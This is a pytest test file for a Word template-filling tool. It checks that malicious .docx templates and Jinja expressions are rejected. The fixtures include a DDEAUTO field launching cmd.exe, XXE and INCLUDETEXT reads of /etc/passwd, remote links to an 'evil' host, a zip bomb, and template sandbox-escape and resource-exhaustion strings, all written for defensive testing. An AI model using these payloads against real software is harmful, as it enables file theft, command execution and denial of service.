import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document

from duban.errors import InputError
from duban.word import filling
from duban.word.filling import fill, fill_template
from duban.word.guarding import check_document, read_template

FACTS = {
    "名称": "市教育局",
    "发文机关": "",
    "数": 3,
    "单位": [{"名称": "甲", "总分": "1.00"}, {"名称": "乙", "总分": "2.00"}],
}
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def document(*paragraphs: str) -> bytes:
    made = Document()
    for text in paragraphs:
        made.add_paragraph(text)
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


def changed(content: bytes, changes: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """Return the archive with some parts changed; one that is not there begins empty."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in dict.fromkeys([*old.namelist(), *changes]):
            part = old.read(name) if name in old.namelist() else b""
            new.writestr(name, changes[name](part) if name in changes else part)
    return target.getvalue()


def in_body(xml: str) -> bytes:
    def put(part: bytes) -> bytes:
        return part.replace(b"<w:body>", f"<w:body><w:p>{xml}</w:p>".encode(), 1)

    return changed(document("text"), {"word/document.xml": put})


def linked(kind: str, mode: str = "External") -> bytes:
    relation = f'<Relationship Id="rId99" Type="http://x/{kind}" Target="http://evil/a" TargetMode="{mode}"/>'
    part = "word/_rels/document.xml.rels"
    return changed(
        document("text"), {part: lambda old: old.replace(b"</Rel", relation.encode() + b"</Rel", 1)}
    )


def field(*pieces: str) -> bytes:
    inside = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return in_body(
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{inside}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def said(content: bytes) -> list[str]:
    made = Document(io.BytesIO(content))
    tables = [cell.text for table in made.tables for row in table.rows for cell in row.cells]
    return [paragraph.text for paragraph in made.paragraphs] + tables


def refused(content: bytes, tmp_path: Path, name: str = "t.docx") -> InputError:
    (tmp_path / name).write_bytes(content)
    with pytest.raises(InputError) as caught:
        fill_template(FACTS, b"", tmp_path / name)
    assert not {"{what}", "{part}", "{reason}", "{near}", "{code}"} & set(caught.value.line("en").split())
    assert name in caught.value.line("zh")
    return caught.value


FOREIGN = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
FORBIDDEN = {
    "macros": changed(document("a"), {"word/vbaProject.bin": lambda _: b"x"}),
    "macro type": changed(
        document("a"),
        {
            "[Content_Types].xml": lambda old: old.replace(
                b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    ),
    "ole": changed(document("a"), {"word/embeddings/oleObject1.bin": lambda _: b"x"}),
    "ole element": in_body("<w:r><w:object/></w:r>"),
    "activex": changed(document("a"), {"word/activeX/activeX1.xml": lambda _: b"<a/>"}),
    "remote template": linked("attachedTemplate"),
    "remote picture": linked("image"),
    "link": linked("hyperlink"),
    "link in other letters": linked("hyperlink", "eXternal"),
    "other document": linked("aFChunk", "Internal"),
    "dde": field("DDEAUTO c:\\\\windows\\\\cmd.exe /k calc"),
    "dde in pieces": field(" D", "D", "E", " excel"),
    "dde never closed": in_body(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>'
    ),
    "include text": in_body('<w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/>'),
    "include picture": in_body('<w:fldSimple w:instr="INCLUDEPICTURE http://evil/"/>'),
    "field within a field": field(
        'IF 1 = 1 "</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>"'
    ),
    "field from a value": field("{{ 名称 }}"),
    "mail merge": changed(
        document("a"),
        {"word/settings.xml": lambda old: old.replace(b"</w:settings>", b"<w:mailMerge/></w:settings>")},
    ),
    "entities": changed(document("a"), {"word/other.xml": lambda _: FOREIGN}),
    "entities in utf-16": changed(
        document("a"), {"word/other.xml": lambda _: FOREIGN.decode()[21:].encode("utf-16")}
    ),
    "broken xml": changed(document("a"), {"word/other.xml": lambda _: b"<a>"}),
}


@pytest.mark.parametrize("content", FORBIDDEN.values(), ids=FORBIDDEN)
def test_what_acts_or_reaches_out_is_refused(content: bytes, tmp_path: Path) -> None:
    assert refused(content, tmp_path).code in ("template_forbidden", "template_not_word")


def test_plain_documents_and_page_numbers_pass() -> None:
    for content in (document("a"), field(" PAGE "), in_body('<w:fldSimple w:instr="NUMPAGES \\* Arabic"/>')):
        check_document(content, "t.docx")


@pytest.mark.parametrize(
    "content", [b"", b"text", b"PK\x03\x04" + b"x" * 100, b"\xd0\xcf\x11\xe0" + b"\0" * 600]
)
def test_what_is_no_word_document_is_refused(content: bytes, tmp_path: Path) -> None:
    assert refused(content, tmp_path).code == "template_not_word"


def test_an_archive_that_grows_is_refused_before_it_does(tmp_path: Path) -> None:
    bomb = changed(document("a"), {"word/media/a.xml": lambda _: b"\0" * 150_000_000})
    assert len(bomb) < 1_000_000
    assert refused(bomb, tmp_path).code == "template_too_large"


def test_a_template_is_filled_here_and_in_a_process_of_its_own_alike(tmp_path: Path) -> None:
    template = document(
        "{{ 名称 }}：{{ 数 }}", "{%p for 行 in 单位 %}", "{{ 行.名称 }} {{ 行.总分 }}", "{%p endfor %}"
    )
    (tmp_path / "t.docx").write_bytes(template)
    own = fill_template(FACTS, b"", tmp_path / "t.docx")
    assert said(own) == said(fill(template, FACTS)) == ["市教育局：3", "甲 1.00", "乙 2.00"]


@pytest.mark.parametrize(
    "name",
    [
        "<script>alert(1)</script>",
        '科&技 "局" \'',
        "{{ 数 }} {% raw %} {_{ 数 }_}",
        "𠀀𪚥局 👨‍👩‍👧",
        "长" * 60,
        '<w:fldSimple w:instr="DDE x"/>',
        "a]]>b",
    ],
)
def test_texts_come_out_as_they_are(name: str, tmp_path: Path) -> None:
    (tmp_path / "t.docx").write_bytes(document("{{ 名称 }}"))
    assert said(fill_template({"名称": name}, b"", tmp_path / "t.docx")) == [name]


def test_characters_that_a_document_cannot_hold_become_spaces() -> None:
    assert said(fill(document("{{ 名称 }}"), {"名称": "a\x00b\nc\x07d\ud800"})) == ["a b c d�"]


@pytest.mark.parametrize(
    ("mark", "code", "told"),
    [
        ("{{ 发文机构 }}", "template_variable_unknown", "是不是“发文机关”"),
        ("{% for 行 in 单位 %}{{ 行.总得分 }}{% endfor %}", "template_variable_unknown", "是不是“总分”"),
        ("{{ 名称 ", "template_syntax", "名称"),
        ("{% for 行 in 单位 %}", "template_syntax", "endfor"),
        ("{{ 名称|safe }}", "template_syntax", "safe"),
        ("{% include 'a' %}", "template_failed", "Error"),
        ("{{ 数 / 0 }}", "template_failed", "ZeroDivisionError"),
        ("{{ 名称.__class__.__mro__ }}", "template_failed", "unsafe"),
        ("{{ ''|attr('__class__') }}", "template_failed", ""),
        ("{{ 单位.append }}{{ 单位.__init__ }}", "template_failed", ""),
        ("{% for a in range(10**9) %}{% endfor %}", "template_failed", "OverflowError"),
        ("{{ 'a' * 10**9 }}", "template_failed", "OverflowError"),
        ("{{ 9 ** 9 ** 99 }}", "template_failed", "OverflowError"),
        ("{{ '%1000000000d' % 1 }}", "template_failed", "OverflowError"),
    ],
)
def test_a_mark_that_is_wrong_is_told(mark: str, code: str, told: str, tmp_path: Path) -> None:
    fault = refused(document(mark), tmp_path)
    assert (fault.code, told in fault.line("zh")) == (code, True), fault.line("zh")


def test_a_template_that_goes_on_and_on_is_stopped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(filling, "SECONDS", 3.0)
    loops = "{% for a in range(90000) %}{% for b in range(90000) %}{% endfor %}{% endfor %}"
    assert refused(document(loops), tmp_path).code == "template_too_slow"


def test_a_template_that_fills_memory_is_stopped(tmp_path: Path) -> None:
    text = "{% set n = namespace(t='aaaaaaaaaaaaaaaa') %}{% for a in range(60) %}{% set n.t = n.t ~ n.t %}{% endfor %}"
    assert refused(document(text), tmp_path).code in ("template_too_slow", "template_failed")


def test_a_file_that_is_not_there_is_told(tmp_path: Path) -> None:
    with pytest.raises(InputError) as caught:
        read_template(tmp_path / "no.docx")
    assert caught.value.code == "template_unreadable"
